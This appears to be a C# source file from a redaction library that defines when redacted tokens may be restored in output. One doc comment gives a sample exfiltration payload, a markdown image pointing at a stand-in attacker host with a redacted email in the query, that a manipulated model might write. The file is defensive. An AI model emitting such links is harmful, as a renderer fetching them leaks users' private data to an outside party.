namespace ServerlessGuard.Core.Redaction;

/// <summary>The outputs in which tokens may be restored.</summary>
public enum RestoreMode
{
    /// <summary>
    /// Never inside URLs, link targets or HTML tags: a model that was talked into writing
    /// <c>![x](https://evil.example/?d=[EMAIL_7K3QX2])</c> must not make the client's renderer send the value.
    /// </summary>
    Prose,

    /// <summary>
    /// As <see cref="Prose"/>, in the strings of a JSON document: values are escaped, so that none ends its string and
    /// adds a field.
    /// </summary>
    JsonProse,

    /// <summary>Everywhere: the exact inverse of redaction, for files and places that render nothing.</summary>
    Everywhere,
}
